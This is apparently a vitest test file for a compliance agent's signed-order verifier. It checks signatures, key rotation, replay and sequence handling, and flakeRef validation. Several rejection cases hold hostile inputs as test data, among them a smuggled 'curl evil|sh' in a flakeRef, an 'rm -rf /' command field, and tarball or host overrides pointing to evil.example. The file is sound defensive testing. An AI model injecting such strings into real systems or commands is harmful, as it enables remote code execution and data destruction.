import { afterAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { openStateDb, stateLayout, type StateDb } from '../../src/state/index.js';
import { EVIDENCE_PAYLOAD_TYPE } from '../../src/crypto/index.js';
import { checkOrder, readOnlyOrderState, sqliteOrderState, verifyOrder, REJECT_REASONS, type RejectReason } from '../../src/orders/index.js';
import { tempDir } from '../helpers/tmp.js';
import { NOW, context, iso, makeKey, orderPayload, signPayload } from './fixtures.js';
import { fixedKeySeed, seeded } from '../helpers/fuzz.js';

const tmp = tempDir('ca-orders-');
afterAll(() => tmp.cleanup());
let dbCount = 0;
function freshDb(): StateDb {
  return openStateDb(stateLayout(`${tmp.path}/db${dbCount++}`).db);
}

const msp = makeKey('msp-2026');
const other = makeKey('msp-2026');
const ctx = context([msp.pub], { allowedFlakes: ['github:msp/site-flake'], closuresAllowed: true });
const REV = 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678';
const apply = (flakeRef: string, revision = REV) => signPayload(orderPayload({ type: 'apply_baseline', params: { revision, flakeRef } }), msp.secret);

function rows(db: StateDb): { seen: number; seq: number } {
  return {
    seen: (db.prepare('SELECT count(*) AS n FROM orders_seen').get() as { n: number }).n,
    seq: (db.prepare('SELECT count(*) AS n FROM order_sequence').get() as { n: number }).n,
  };
}

function expectRejected(decision: ReturnType<typeof verifyOrder>, reason: RejectReason): void {
  expect(decision.decision).toBe('rejected');
  if (decision.decision === 'rejected') expect(decision.reason).toBe(reason);
}

describe('verifyOrder accepts', () => {
  it('a signed, fresh order for this host and records it with its sequence in one go', () => {
    const db = freshDb();
    const payload = orderPayload({ sequence: 7 });
    const d = verifyOrder(signPayload(payload, msp.secret), ctx, sqliteOrderState(db));
    expect(d.decision).toBe('accepted');
    if (d.decision === 'accepted') {
      expect(d.order.order_id).toBe(payload.order_id);
      expect(d.keyid).toBe('msp-2026');
    }
    expect(db.prepare('SELECT decision FROM orders_seen WHERE order_id = ?').get(payload.order_id)).toEqual({ decision: 'accepted' });
    expect(db.prepare('SELECT last_sequence FROM order_sequence WHERE site_id = ?').get('clinic-001')).toEqual({ last_sequence: 7 });
  });

  it('an order addressed to every host of the site (host_id "*")', () => {
    const d = verifyOrder(signPayload(orderPayload({ host_id: '*' }), msp.secret), ctx, sqliteOrderState(freshDb()));
    expect(d.decision).toBe('accepted');
  });

  it('each order type of the closed vocabulary with valid params', () => {
    const db = freshDb();
    const state = sqliteOrderState(db);
    for (const [type, params] of [
      ['run_checks', {}],
      ['run_checks', { checks: ['services', 'time'] }],
      ['heal', { checks: ['services'] }],
      ['apply_baseline', { revision: REV, flakeRef: `github:msp/site-flake?ref=main&rev=${REV}#appliance-1` }],
      ['apply_baseline', { revision: REV, flakeRef: `github:msp/site-flake/${REV}#appliance-1` }],
      ['apply_closure', { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-nixos-system-appliance-1-25.05.20261123.abcdef0', revision: REV }],
      ['rollback', {}],
    ] as const) {
      const d = verifyOrder(signPayload(orderPayload({ type, params }), msp.secret), ctx, state);
      expect(d.decision, `${type} ${JSON.stringify(params)}`).toBe('accepted');
    }
  });

  it('raw JSON text as well as a parsed object', () => {
    const text = JSON.stringify(signPayload(orderPayload(), msp.secret));
    expect(verifyOrder(text, ctx, sqliteOrderState(freshDb())).decision).toBe('accepted');
  });

  it('an order issued slightly ahead of this clock, within ntpMaxSkewMs', () => {
    const d = verifyOrder(signPayload(orderPayload({}, NOW + 4000), msp.secret), ctx, sqliteOrderState(freshDb()));
    expect(d.decision).toBe('accepted');
  });
});

describe('verifyOrder rejects, with a reason and the order_id when there is one', () => {
  const cases: Array<[RejectReason, string, () => unknown, Partial<typeof ctx>?]> = [
    ['bad_envelope', 'not JSON', () => '{"payloadType": '],
    ['bad_envelope', 'JSON but not an envelope', () => ({ hello: 'world' })],
    ['bad_envelope', 'no signatures', () => ({ ...signPayload(orderPayload(), msp.secret), signatures: [] })],
    [
      'bad_signature',
      'payload changed after signing',
      () => {
        const env = signPayload(orderPayload({ type: 'run_checks' }), msp.secret);
        const forged = JSON.parse(Buffer.from(env.payload, 'base64').toString()) as Record<string, unknown>;
        forged.type = 'rollback';
        return { ...env, payload: Buffer.from(JSON.stringify(forged)).toString('base64') };
      },
    ],
    ['bad_signature', 'signed by another key with a trusted key name', () => signPayload(orderPayload(), other.secret)],
    ['unknown_key', 'signed by an untrusted key', () => signPayload(orderPayload(), makeKey('attacker').secret)],
    ['wrong_payload_type', 'an evidence envelope', () => signPayload(orderPayload(), msp.secret, EVIDENCE_PAYLOAD_TYPE)],
    ['payload_too_large', 'a 100 KiB payload, even validly signed', () => signPayload(orderPayload({ policy_version: 'x'.repeat(100 * 1024) }), msp.secret)],
    ['payload_too_large', 'a huge raw envelope text', () => `{"payloadType":"x","payload":"${'A'.repeat(200_000)}","signatures":[]}`],
    ['payload_too_large', 'a huge payload that is not even base64', () => ({ payloadType: 'x', payload: '!'.repeat(100_000), signatures: [] })],
    ['bad_payload', 'payload is not JSON', () => signPayload('not json at all', msp.secret)],
    ['bad_payload', 'a field missing', () => signPayload({ ...orderPayload(), sequence: undefined }, msp.secret)],
    ['bad_payload', 'an extra field', () => signPayload(orderPayload({ command: 'rm -rf /' }), msp.secret)],
    ['bad_payload', 'order_id not a uuid', () => signPayload(orderPayload({ order_id: 'abc' }), msp.secret)],
    ['bad_payload', 'expires before issue', () => signPayload(orderPayload({ expires_at: iso(NOW - 1000) }), msp.secret)],
    ['unknown_type', 'a shell order', () => signPayload(orderPayload({ type: 'exec', params: { cmd: 'id' } }), msp.secret)],
    ['bad_params', 'heal without checks', () => signPayload(orderPayload({ type: 'heal', params: {} }), msp.secret)],
    ['bad_params', 'heal of an unknown check', () => signPayload(orderPayload({ type: 'heal', params: { checks: ['kernel'] } }), msp.secret)],
    ['bad_params', 'rollback with params', () => signPayload(orderPayload({ type: 'rollback', params: { to: 3 } }), msp.secret)],
    [
      'bad_params',
      'a flakeRef with shell metacharacters',
      () => signPayload(orderPayload({ type: 'apply_baseline', params: { revision: 'r1', flakeRef: 'github:a/b;curl evil|sh' } }), msp.secret),
    ],
    ['bad_params', 'a flakeRef that reads as an option', () => signPayload(orderPayload({ type: 'apply_baseline', params: { revision: 'r1', flakeRef: '--option' } }), msp.secret)],
    ['bad_params', 'an unpinned flake (a branch)', () => apply('github:msp/site-flake?ref=main#appliance-1')],
    ['bad_params', 'a rev that is not the signed revision', () => apply(`github:msp/site-flake?rev=${'b'.repeat(40)}#appliance-1`)],
    ['bad_params', 'a short rev', () => apply('github:msp/site-flake?rev=a1b2c3d#appliance-1', 'a1b2c3d')],
    ['bad_params', 'a local path: flake', () => apply(`path:/var/lib/compliance-agent/x?rev=${REV}#appliance-1`)],
    ['bad_params', 'a bare absolute path', () => apply(`/etc/nixos?rev=${REV}#appliance-1`)],
    ['bad_params', 'a git+file flake', () => apply(`git+file:///var/lib/compliance-agent/repo?rev=${REV}#appliance-1`)],
    ['bad_params', 'a tarball', () => apply(`tarball+https://evil.example/x.tar.gz?rev=${REV}#appliance-1`)],
    ['bad_params', 'an https tarball', () => apply(`https://evil.example/x.tar.gz?rev=${REV}#appliance-1`)],
    ['bad_params', 'user info with a token', () => apply(`git+https://oauth2:TOKEN@git.msp.example/site-flake?rev=${REV}#appliance-1`)],
    ['bad_params', 'a github host= override', () => apply(`github:msp/site-flake?host=evil.example&rev=${REV}#appliance-1`)],
    ['bad_params', 'no configuration after #', () => apply(`github:msp/site-flake?rev=${REV}`)],
    [
      'bad_params',
      'a closure that is a derivation',
      () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-x.drv', revision: REV } }), msp.secret),
    ],
    ['flake_not_allowed', 'a pinned flake of another owner', () => apply(`github:attacker/site-flake?rev=${REV}#appliance-1`)],
    ['flake_not_allowed', 'a repository whose name only starts like an allowed one', () => apply(`github:msp/site-flake-evil?rev=${REV}#appliance-1`)],
    ['flake_not_allowed', 'an allowed flake when allowedFlakes is empty', () => apply(`github:msp/site-flake?rev=${REV}#appliance-1`), { allowedFlakes: [] }],
    [
      'closure_not_allowed',
      'a closure order with no binary cache configured',
      () => signPayload(orderPayload({ type: 'apply_closure', params: { storePath: '/nix/store/0c8ivz6gxbj8zf3wcd4i5hw7lrn8f8bv-nixos-system-a', revision: REV } }), msp.secret),
      { closuresAllowed: false },
    ],
    [
      'insufficient_signatures',
      'one signer where rollback needs two',
      () => signPayload(orderPayload({ type: 'rollback', params: {} }), msp.secret),
      { signaturesRequired: { rollback: 2 } },
    ],
    ['wrong_site', 'another site', () => signPayload(orderPayload({ site_id: 'clinic-002' }), msp.secret)],
    ['wrong_host', 'another host', () => signPayload(orderPayload({ host_id: 'appliance-2' }), msp.secret)],
    ['ttl_too_long', 'expires 2 h after issue with orderTtl 15 min', () => signPayload(orderPayload({ expires_at: iso(NOW + 7_200_000) }), msp.secret)],
    ['expired', 'expired a second ago', () => signPayload(orderPayload({ issued_at: iso(NOW - 601_000), expires_at: iso(NOW - 1000) }), msp.secret)],
    ['expired', 'expiring exactly now', () => signPayload(orderPayload({ issued_at: iso(NOW - 600_000), expires_at: iso(NOW) }), msp.secret)],
    ['issued_in_future', 'issued 10 s ahead with 5 s allowed skew', () => signPayload(orderPayload({}, NOW + 10_000), msp.secret)],
  ];

  it.each(cases)('%s: %s', (reason, _what, make, overrides) => {
    const db = freshDb();
    const d = verifyOrder(make(), { ...ctx, ...overrides }, sqliteOrderState(db));
    expectRejected(d, reason);
    if (d.decision === 'rejected') expect(d.message.length).toBeGreaterThan(0);
    expect(db.prepare('SELECT count(*) AS n FROM order_sequence').get()).toEqual({ n: 0 });
  });

  it('covers every reason in the vocabulary (this table plus replay and sequence below)', () => {
    const covered = new Set<string>([...cases.map((c) => c[0]), 'replayed', 'stale_sequence']);
    expect([...REJECT_REASONS].filter((r) => !covered.has(r))).toEqual([]);
  });

  it('replayed: the same order twice is accepted once', () => {
    const state = sqliteOrderState(freshDb());
    const env = signPayload(orderPayload(), msp.secret);
    expect(verifyOrder(env, ctx, state).decision).toBe('accepted');
    expectRejected(verifyOrder(env, { ...ctx, now: NOW + 1000 }, state), 'replayed');
  });

  it('replayed: a new envelope re-using an accepted order_id (higher sequence) is refused', () => {
    const state = sqliteOrderState(freshDb());
    const first = orderPayload();
    verifyOrder(signPayload(first, msp.secret), ctx, state);
    expectRejected(verifyOrder(signPayload({ ...first, sequence: (first.sequence as number) + 100 }, msp.secret), ctx, state), 'replayed');
  });

  it('stale_sequence: lower and equal sequences after an accepted one, recorded as rejected', () => {
    const db = freshDb();
    const state = sqliteOrderState(db);
    expect(verifyOrder(signPayload(orderPayload({ sequence: 50 }), msp.secret), ctx, state).decision).toBe('accepted');
    const lower = orderPayload({ sequence: 49 });
    expectRejected(verifyOrder(signPayload(lower, msp.secret), ctx, state), 'stale_sequence');
    expectRejected(verifyOrder(signPayload(orderPayload({ sequence: 50 }), msp.secret), ctx, state), 'stale_sequence');
    expect(db.prepare('SELECT decision, reason FROM orders_seen WHERE order_id = ?').get(lower.order_id)).toEqual({ decision: 'rejected', reason: 'stale_sequence' });
    expect(verifyOrder(signPayload(orderPayload({ sequence: 51 }), msp.secret), ctx, state).decision).toBe('accepted');
  });

  it('a rejected sequence does not raise the bar: a refused order with a huge sequence changes nothing', () => {
    const state = sqliteOrderState(freshDb());
    expectRejected(verifyOrder(signPayload(orderPayload({ sequence: 1e12, host_id: 'appliance-2' }), msp.secret), ctx, state), 'wrong_host');
    expect(verifyOrder(signPayload(orderPayload({ sequence: 5 }), msp.secret), ctx, state).decision).toBe('accepted');
  });

  it('an authenticated order refused once stays refused (its id is recorded)', () => {
    const db = freshDb();
    const state = sqliteOrderState(db);
    const early = orderPayload({}, NOW + 60_000);
    const env = signPayload(early, msp.secret);
    expectRejected(verifyOrder(env, ctx, state), 'issued_in_future');
    expect(db.prepare('SELECT reason FROM orders_seen WHERE order_id = ?').get(early.order_id)).toEqual({ reason: 'issued_in_future' });
    expectRejected(verifyOrder(env, { ...ctx, now: NOW + 61_000 }, state), 'replayed');
  });

  it('unauthenticated junk records nothing, so a forger cannot burn a real order_id', () => {
    const db = freshDb();
    const state = sqliteOrderState(db);
    const real = orderPayload();
    const forged = signPayload(real, makeKey('attacker').secret);
    const d = verifyOrder(forged, ctx, state);
    expectRejected(d, 'unknown_key');
    if (d.decision === 'rejected') expect(d.orderId).toBe(real.order_id);
    expect(rows(db)).toEqual({ seen: 0, seq: 0 });
    expect(verifyOrder(signPayload(real, msp.secret), ctx, state).decision).toBe('accepted');
  });

  it("two connections to the same database: the second sees the first one's order as replayed", () => {
    const dir = `${tmp.path}/shared`;
    const a = openStateDb(stateLayout(dir).db);
    const b = openStateDb(stateLayout(dir).db);
    const env = signPayload(orderPayload(), msp.secret);
    expect(verifyOrder(env, ctx, sqliteOrderState(a)).decision).toBe('accepted');
    expectRejected(verifyOrder(env, ctx, sqliteOrderState(b)), 'replayed');
    a.close();
    b.close();
  });
});

describe('key rotation', () => {
  const old = makeKey('msp-2025');
  const next = makeKey('msp-2026b');

  it('accepts orders from every trusted key at once', () => {
    const state = sqliteOrderState(freshDb());
    const both = context([old.pub, next.pub]);
    expect(verifyOrder(signPayload(orderPayload(), old.secret), both, state).decision).toBe('accepted');
    expect(verifyOrder(signPayload(orderPayload(), next.secret), both, state).decision).toBe('accepted');
  });

  it('a key removed from config stops its orders, while the remaining key still works', () => {
    const state = sqliteOrderState(freshDb());
    const rotated = context([next.pub]);
    expectRejected(verifyOrder(signPayload(orderPayload(), old.secret), rotated, state), 'unknown_key');
    expect(verifyOrder(signPayload(orderPayload(), next.secret), rotated, state).decision).toBe('accepted');
  });
});

describe('verify-only state', () => {
  it('reflects replay and sequence from an existing database and writes nothing', () => {
    const db = freshDb();
    const accepted = orderPayload({ sequence: 100 });
    const env = signPayload(accepted, msp.secret);
    verifyOrder(env, ctx, sqliteOrderState(db));
    const before = rows(db);
    const ro = readOnlyOrderState(db);
    expectRejected(verifyOrder(env, ctx, ro), 'replayed');
    expectRejected(verifyOrder(signPayload(orderPayload({ sequence: 99 }), msp.secret), ctx, ro), 'stale_sequence');
    expectRejected(verifyOrder(signPayload(orderPayload({}, NOW + 60_000), msp.secret), ctx, ro), 'issued_in_future');
    const fresh = signPayload(orderPayload({ sequence: 101 }), msp.secret);
    expect(verifyOrder(fresh, ctx, ro).decision).toBe('accepted');
    expect(verifyOrder(fresh, ctx, ro).decision).toBe('accepted');
    expect(rows(db)).toEqual(before);
  });

  it('works without any database', () => {
    expect(verifyOrder(signPayload(orderPayload(), msp.secret), ctx, readOnlyOrderState(null)).decision).toBe('accepted');
  });
});

describe('tampering never yields acceptance (property)', () => {
  const fixedMsp = makeKey('msp-2026', fixedKeySeed('msp-2026'));
  it('any change to one byte of the payload or signature is refused', () => {
    const env = signPayload(orderPayload({ type: 'heal', params: { checks: ['services'] }, order_id: '0b5e8a52-2f0c-4a43-9a1e-0d6b7c1e9f10' }), fixedMsp.secret);
    const payload = Buffer.from(env.payload, 'base64');
    const sig = Buffer.from(env.signatures[0]!.sig, 'base64');
    fc.assert(
      fc.property(fc.boolean(), fc.nat(), fc.integer({ min: 1, max: 255 }), (inPayload, pos, xor) => {
        const p = Buffer.from(payload);
        const s = Buffer.from(sig);
        if (inPayload) p[pos % p.length]! ^= xor;
        else s[pos % s.length]! ^= xor;
        const tampered = { ...env, payload: p.toString('base64'), signatures: [{ keyid: 'msp-2026', sig: s.toString('base64') }] };
        const d = checkOrder(tampered, { ...ctx, trustedKeys: [fixedMsp.pub] });
        return d.decision === 'rejected' && d.reason === 'bad_signature';
      }),
      seeded('one changed byte of an order payload or signature', { numRuns: 2000 }),
    );
  });

  it('no unrelated random JSON is ever accepted', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (v) => {
        const d = checkOrder(v, ctx);
        return d.decision === 'rejected' && REJECT_REASONS.includes(d.reason);
      }),
      seeded('any JSON value as an order', { numRuns: 2000 }),
    );
  });
});
